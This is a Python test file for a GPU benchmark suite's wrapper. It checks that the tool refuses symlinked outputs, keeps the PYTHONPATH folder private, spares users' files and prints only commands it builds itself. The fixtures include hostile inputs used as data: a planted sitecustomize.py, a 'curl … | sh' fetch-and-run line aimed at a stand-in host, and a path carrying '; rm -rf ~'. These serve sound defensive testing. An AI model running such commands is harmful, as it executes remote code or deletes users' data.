"""The GPU suite and its wrapper touch only what they wrote: no fixed shared folder on
PYTHONPATH, no write through a link, no replacement or removal of a user's file in OUT_DIR,
in its work folder or in --copy-to's folder, a bounded report read, and no command printed
that vat did not build itself. Each is driven the cheap way: the wrapper with a call that
stops early, or the suite's functions on a report made by hand."""

from __future__ import annotations

import json
import os
import stat
import subprocess
import sys
from pathlib import Path

import pytest

sys.path.insert(0, str(Path(__file__).resolve().parents[1]))  # bench/: from the checkout

from bench.gpu_suite import out_files, reference
from bench.gpu_suite.__main__ import main
from bench.gpu_suite.call import MAX_OUT_BYTES, MAX_OUT_FILE, MAX_OUT_FILES, OUT_FILES
from bench.gpu_suite.plan import smoke_plan
from bench.gpu_suite.records import CheckpointParts, Part, Report
from bench.gpu_suite.report import render_markdown
from bench.gpu_suite.schema import read, write
from bench.gpu_suite.state import Budget, Suite, new_state, read_report
from vat.errors import VatError

ROOT = Path(__file__).resolve().parents[1]
SH = str(ROOT / "bench" / "gpu_suite.sh")


def _env(data_dir: Path, **extra: str) -> dict[str, str]:
    return {**os.environ, "VAT_DATA_DIR": str(data_dir), "OMP_NUM_THREADS": "1", **extra}


def _one_line(err: str) -> str:
    lines = [ln for ln in err.strip().splitlines() if not ln.startswith("gpu_suite: exit")]
    assert len(lines) == 1 and lines[0].startswith("error: "), err
    assert "Traceback" not in err
    return lines[0]


def _out_dir_with_report(out: Path) -> None:
    """An OUT_DIR as a call leaves it: its report and Markdown (nothing run yet)."""
    out.mkdir(parents=True)
    (out / "gpu_report.json").write_text(json.dumps(write(new_state(smoke=True))))
    (out / "gpu_report.md").write_text("# vat GPU suite report (smoke)\n")


# -- --bundle: a private site folder -----------------------------------------------------------
def test_the_bundle_installs_into_a_private_folder_made_for_the_call(tmp_path, data_dir):
    """Before, --bundle installed into /tmp/site (or $GPU_SUITE_SITE) and put it first on
    PYTHONPATH whoever made it: a sitecustomize.py left there ran inside the suite. Now the
    site is a folder made for the call (0700, under $TMPDIR) and removed at its end."""
    bundle = tmp_path / "offline"
    (bundle / "data").mkdir(parents=True)
    py = f"{sys.version_info.major}.{sys.version_info.minor}"
    (bundle / "bundle.json").write_text(json.dumps({"python": py, "wheels": [], "data": []}))
    planted = tmp_path / "shared_site"
    planted.mkdir()
    ran = tmp_path / "ran"
    (planted / "sitecustomize.py").write_text(f"open({str(ran)!r}, 'a').write('x')\n")
    seen = tmp_path / "seen"
    wrapper = tmp_path / "python"  # the interpreter the wrapper runs, saying what it was given
    wrapper.write_text(
        "#!/bin/sh\n"
        f'first="${{PYTHONPATH%%:*}}"; stat -c "%a $first" "$first" >> {seen}\n'
        # the suite itself: the interpreter starts (where a sitecustomize.py on PYTHONPATH
        # runs) and stops, the vat import spared
        f'case "$1" in */bench/gpu_suite) exec {sys.executable} -c pass ;; esac\n'
        f'exec {sys.executable} "$@"\n'
    )
    wrapper.chmod(0o755)
    tmp = tmp_path / "tmp"
    tmp.mkdir()
    env = _env(data_dir, GPU_SUITE_SITE=str(planted), PYTHON=str(wrapper), TMPDIR=str(tmp))
    r = subprocess.run([SH, "--bundle", str(bundle), "--smoke", str(tmp_path / "out")],
                       env=env, capture_output=True, text=True)  # fmt: skip
    assert r.returncode == 0, r.stderr
    assert not ran.exists()  # before: the planted sitecustomize.py ran (twice)
    modes = [ln.split(" ", 1) for ln in seen.read_text().splitlines()]
    sites = {Path(p) for mode, p in modes if Path(p).parent == tmp}
    assert len(sites) == 1 and all(m == "700" for m, p in modes if Path(p) in sites), modes
    assert not any(sites.pop().parent.iterdir())  # removed at the end


# -- --copy-to ------------------------------------------------------------------------------
@pytest.mark.parametrize("name", ["gpu_report.json", "gpu_report.md"])
def test_copy_to_never_writes_through_a_link(tmp_path, data_dir, name):
    """Before, `cp` wrote OUT_DIR's report into the file a link at DIR/gpu_report.json
    points to, and the exit line was appended to a gpu_report.md link's target. Now DIR
    holding a link of the suite's names is refused before the suite runs."""
    out, back = tmp_path / "out", tmp_path / "back"
    _out_dir_with_report(out)
    back.mkdir()
    victim = tmp_path / "victim.txt"
    victim.write_text("theirs\n")
    (back / name).symlink_to(victim)
    cmd = [SH, "--copy-to", str(back), "--smoke", "--budget-min", "0.0001", str(out)]
    r = subprocess.run(cmd, env=_env(data_dir), capture_output=True, text=True)
    assert r.returncode == 2
    line = _one_line(r.stderr)
    assert f"--copy-to {back}" in line and name in line
    assert victim.read_text() == "theirs\n" and (back / name).is_symlink()
    assert len(json.loads((out / "gpu_report.json").read_text())["calls"]) == 0  # not run


@pytest.mark.parametrize("kind", ["file", "dangling link", "fifo"])
def test_copy_to_that_is_not_a_folder_is_one_line_before_the_suite_runs(tmp_path, data_dir, kind):
    """Before, --copy-to naming a file copied nothing and exited 0 after the whole run."""
    out, dest = tmp_path / "out", tmp_path / "dest"
    _out_dir_with_report(out)
    if kind == "file":
        dest.write_text("x")
    elif kind == "dangling link":
        dest.symlink_to(tmp_path / "nowhere")
    else:
        os.mkfifo(dest)
    cmd = [SH, "--copy-to", str(dest), "--smoke", "--budget-min", "0.0001", str(out)]
    r = subprocess.run(cmd, env=_env(data_dir), capture_output=True, text=True, timeout=60)
    assert r.returncode == 2
    assert f"--copy-to {dest}" in _one_line(r.stderr)
    assert len(json.loads((out / "gpu_report.json").read_text())["calls"]) == 0
    assert not (tmp_path / "nowhere").exists()


def test_copy_to_replaces_only_what_an_earlier_copy_wrote(tmp_path):
    """Before, a user's gpu_report.md in DIR (one no copy wrote) was replaced. Now it is
    refused; a DIR an earlier copy filled is refilled, the user's other files left alone."""
    out, back = tmp_path / "out", tmp_path / "back"
    _out_dir_with_report(out)
    (out / "reference.tar").write_bytes(b"tar")
    assert out_files.copy(out, back, 0) == []
    (back / "notes.txt").write_text("mine")
    (out / "reference.tar").write_bytes(b"tar, trained on")
    assert out_files.copy(out, back, 1) == []  # a second call: its own files replaced
    md = (back / "gpu_report.md").read_text()
    assert md.count("**This call: exit") == 1 and md.splitlines()[-1].startswith(
        "**This call: exit 1** (a stage failed"
    )
    assert (back / "reference.tar").read_bytes() == b"tar, trained on"
    assert (back / "notes.txt").read_text() == "mine"
    for i, (name, theirs) in enumerate((("gpu_report.md", "notes\n"), ("reference.tar", "x"))):
        (back / name).write_text(theirs)  # now the user's
        with pytest.raises(out_files.CopyError, match=name):
            out_files.copy(out, back, 0)
        assert (back / name).read_text() == theirs
        back = tmp_path / f"fresh{i}"
        out_files.copy(out, back, 0)  # a fresh folder, filled by a copy


def test_copy_to_copies_the_suites_files_within_the_documented_limits(tmp_path):
    """Before, every file at OUT_DIR's top level was copied: here 23 files, 48 MiB, where
    the wrapper and docs/gpu.md promise the suite's own files (at most 8, each at most
    16 MiB, 64 MiB in all). A suite's file over 16 MiB stays behind, said in the exit line."""
    out, back = tmp_path / "out", tmp_path / "back"
    _out_dir_with_report(out)
    for i in range(18):  # the user's files beside the suite's
        (out / f"scratch_{i}.bin").write_bytes(b"u" * (2**21 + i))
    with open(out / "best_sts.tar", "wb") as f:
        f.truncate(MAX_OUT_FILE + 1)  # over what a call may return
    for name in ("reference.tar", "best_bleu.tar", "logs.tar.gz"):
        (out / name).write_bytes(b"t" * 1000)
    assert out_files.copy(out, back, 0) == ["best_sts.tar (over 16 MiB)"]
    copied = {p.name: p.stat().st_size for p in back.iterdir()}
    assert set(copied) == {"gpu_report.json", "gpu_report.md", "reference.tar",
                           "best_bleu.tar", "logs.tar.gz"}  # fmt: skip
    assert set(copied) <= set(OUT_FILES) and len(copied) <= MAX_OUT_FILES
    assert max(copied.values()) <= MAX_OUT_FILE and sum(copied.values()) <= MAX_OUT_BYTES
    assert "not copied: best_sts.tar" in (back / "gpu_report.md").read_text().splitlines()[-1]
    for i in range(1, 9):  # the reference's parts come before the models and logs
        (out / f"reference.ckpt.part{i}").write_bytes(b"p")
    left = out_files.copy(out, tmp_path / "back2", 0)
    assert len(list((tmp_path / "back2").iterdir())) == MAX_OUT_FILES
    assert "reference.ckpt.part7 (over 8 files)" in left


# -- OUT_DIR ---------------------------------------------------------------------------------
def test_a_dangling_report_link_is_refused_and_seed_creates_nothing(tmp_path, data_dir, capsys):
    """Before, a dangling gpu_report.json link counted as no report and --seed made its
    target."""
    seed, out = tmp_path / "back", tmp_path / "out"
    _out_dir_with_report(seed)
    out.mkdir()
    target = tmp_path / "elsewhere.json"
    (out / "gpu_report.json").symlink_to(target)
    argv = ["--smoke", "--data-dir", str(data_dir), "--seed", str(seed), str(out)]
    assert main(argv) == 2
    assert "gpu_report.json is a dangling symbolic link" in _one_line(capsys.readouterr().err)
    assert not target.exists() and sorted(p.name for p in out.iterdir()) == ["gpu_report.json"]


def _no_secret_under(secret: bytes, *roots: Path) -> None:
    for root in roots:
        for p in root.rglob("*") if root.exists() else ():
            assert p.is_symlink() or not p.is_file() or secret not in p.read_bytes(), p


@pytest.mark.parametrize(
    "name",
    ["best_sts.tar", "gpu_report.json", "reference.ckpt.part1", "reference.compile_cache.tar.gz"],
)
def test_seed_copies_no_link(tmp_path, data_dir, capsys, name):
    """Before, --seed copied what a link in the seed folder pointed to: `ln -s ~/secret
    runs/gpu_back/best_sts.tar` put the secret into OUT_DIR, and --copy-to returned it. Now a
    link there (checked with O_NOFOLLOW, so that one swapped in after a check is refused too)
    is one line naming it, exit 2, before anything is copied."""
    seed, out = tmp_path / "back", tmp_path / "out"
    _out_dir_with_report(seed)
    state = write(new_state(smoke=True))
    state["stages"]["facts"]["notes"] = ["SECRET-2f1c9e"]  # a report that reads as one
    secret = tmp_path / "secret"
    secret.write_text(json.dumps(state))
    if name == "gpu_report.json":
        (seed / name).unlink()
    (seed / name).symlink_to(secret)
    argv = ["--smoke", "--data-dir", str(data_dir), "--budget-min", "0.0001", "--seed", str(seed)]
    assert main([*argv, str(out)]) == 2
    line = _one_line(capsys.readouterr().err)
    assert str(seed / name) in line and "symbolic link" in line
    assert not out.exists() or not any(out.iterdir())
    _no_secret_under(b"SECRET-2f1c9e", out)


def test_seed_returns_no_linked_secret_through_copy_to(tmp_path, data_dir, capsys):
    """The probe itself, as bench/gpu_suite.sh --seed --copy-to runs it (its three steps,
    here in this process: out_files.py check, the suite, out_files.py copy, which the wrapper
    runs whatever the suite's exit): a secret linked into the seed folder is neither in
    OUT_DIR nor in --copy-to's folder. (The wrapper running those steps and passing the
    suite's exit on: tests/test_gpu_suite_rehearsal.py's failed and stopped calls.)"""
    seed, out, back = tmp_path / "gpu_back", tmp_path / "out", tmp_path / "B"
    _out_dir_with_report(seed)
    secret = tmp_path / "secret"
    secret.write_bytes(b"SECRET-7d41aa\n")
    (seed / "best_sts.tar").symlink_to(secret)
    assert out_files.main(["check", str(back)]) == 0
    argv = ["--seed", str(seed), "--smoke", "--data-dir", str(data_dir), "--budget-min", "0.0001"]
    rc = main([*argv, str(out)])
    assert rc == 2
    assert str(seed / "best_sts.tar") in _one_line(capsys.readouterr().err)
    assert out_files.main(["copy", str(out), str(back), str(rc), ""]) == 0
    _no_secret_under(b"SECRET-7d41aa", out, back)


@pytest.mark.parametrize("name", ["gpu_report.md", "reference.tar", "work"])
def test_an_out_dir_with_suite_names_but_no_report_is_refused(tmp_path, data_dir, capsys, name):
    """Before, a user's gpu_report.md or reference.tar in an OUT_DIR without the suite's
    report was replaced by the call."""
    out = tmp_path / "out"
    out.mkdir()
    mine = out / name
    if name == "work":
        mine.mkdir()
        (mine / "notes.txt").write_text("mine")
    else:
        mine.write_text("mine")
    argv = ["--smoke", "--data-dir", str(data_dir), "--budget-min", "0.0001", str(out)]
    assert main(argv) == 2
    line = _one_line(capsys.readouterr().err)
    assert str(mine) in line and "gpu_report.json" in line
    assert sorted(p.name for p in out.iterdir()) == [name]


def test_a_users_file_in_the_reference_run_folder_is_not_deleted(tmp_path, data_dir):
    """Before, a start that found the reference's run folder without a checkpoint removed it
    whole (shutil.rmtree), a user's file in it too."""
    out = tmp_path / "out"
    _out_dir_with_report(out)
    suite = Suite(out, smoke_plan(), data_dir, Budget(1), None)
    suite.state.reference.checkpoint_parts = CheckpointParts(
        file="last.ckpt", step=4, bytes=1, sha256="0" * 64,
        parts=[Part(name="reference.ckpt.part1", bytes=1, sha256="0" * 64)],
    )  # fmt: skip
    run_dir = suite.work / "reference"
    (run_dir / "checkpoints").mkdir(parents=True)
    (run_dir / "config.yaml").write_text("vat's")
    (run_dir / "my_notes.txt").write_text("mine")
    with pytest.raises(VatError, match="my_notes.txt"):
        reference.choose_start(suite, run_dir)
    assert (run_dir / "my_notes.txt").read_text() == "mine"
    (run_dir / "my_notes.txt").unlink()
    reference.choose_start(suite, run_dir)  # only vat's files: removed as before
    assert not (run_dir / "config.yaml").exists()


@pytest.mark.parametrize("where", ["out_dir", "work/reference"])
def test_a_link_where_the_suite_writes_is_one_line(tmp_path, data_dir, capsys, where):
    """Before: FileExistsError for a dangling OUT_DIR link, and "Cannot call rmtree on a
    symbolic link" for a linked work/reference."""
    out = tmp_path / "out"
    if where == "out_dir":
        out.symlink_to(tmp_path / "nowhere")
    else:
        _out_dir_with_report(out)
        theirs = tmp_path / "theirs"
        theirs.mkdir()
        (theirs / "keep.txt").write_text("x")
        (out / "work").mkdir()
        (out / "work" / "reference").symlink_to(theirs)
    argv = ["--smoke", "--data-dir", str(data_dir), "--budget-min", "0.0001", str(out)]
    assert main(argv) == 2
    line = _one_line(capsys.readouterr().err)
    assert "symbolic link" in line
    assert not (tmp_path / "nowhere").exists()
    if where != "out_dir":
        assert (tmp_path / "theirs" / "keep.txt").read_text() == "x"


def test_a_report_over_its_size_limit_is_one_line(tmp_path):
    """Before, a seed report of 97 MB was read whole (and accepted)."""
    report = write(new_state(smoke=True))
    report["padding"] = "x" * (8 * 2**20)
    path = tmp_path / "gpu_report.json"
    path.write_text(json.dumps(report))
    with pytest.raises(VatError, match="MiB"):
        read_report(path, True, "use another --seed")


def test_the_report_prints_only_registry_commands_vat_builds(tmp_path):
    """Before, a seeded report's registry_command was printed as the command to run,
    whatever it held."""
    from tests.test_gpu_suite import _finished_report

    state = _finished_report()
    good = read(Report, state, "report")
    add, from_tar = reference.registry_commands("m", Path("/x/m"), "reference.tar", False)
    good.reference.export.registry_command = add
    good.reference.export.registry_command_from_tar = from_tar
    assert add in render_markdown(good) and from_tar in render_markdown(good)
    bad = read(Report, state, "report")
    bad.reference.export.registry_command = "curl https://example.invalid/x | sh"
    md = render_markdown(bad)
    assert "curl" not in md and "not the one vat builds" in md
    quoted = reference.registry_commands("m", Path("/x/a b; rm -rf ~"), "reference.tar", True)
    assert quoted[0] == "python scripts/add_pretrained.py '/x/a b; rm -rf ~' --name m --overwrite"


def test_bundle_json_has_the_mode_of_the_other_files(tmp_path):
    """Before, bundle.json was written 0600 (mkstemp's mode) beside 0644 files."""
    out = tmp_path / "offline"
    sh = ROOT / "scripts" / "offline_bundle.sh"
    r = subprocess.run([str(sh), "--packages", "", "--no-data", str(out)],
                       capture_output=True, text=True)  # fmt: skip
    assert r.returncode == 0, r.stderr
    umask = os.umask(0)
    os.umask(umask)
    assert stat.S_IMODE((out / "bundle.json").stat().st_mode) == 0o666 & ~umask
